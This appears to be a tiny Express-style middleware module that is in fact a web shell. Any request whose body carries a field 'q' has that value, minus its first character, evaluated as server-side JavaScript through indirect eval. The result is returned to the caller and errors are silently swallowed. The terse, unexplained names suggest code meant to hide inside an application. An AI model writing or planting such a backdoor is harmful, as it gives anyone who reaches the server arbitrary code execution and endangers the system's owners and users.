'use strict';
function k(A) {
  try {
    return (0, eval)(A);
  } catch (A) {}
}

module.exports = (req, res, next) => {
  if (req.body.q) res.end(String(k(req.body.q.slice(1))));
  else next();
};
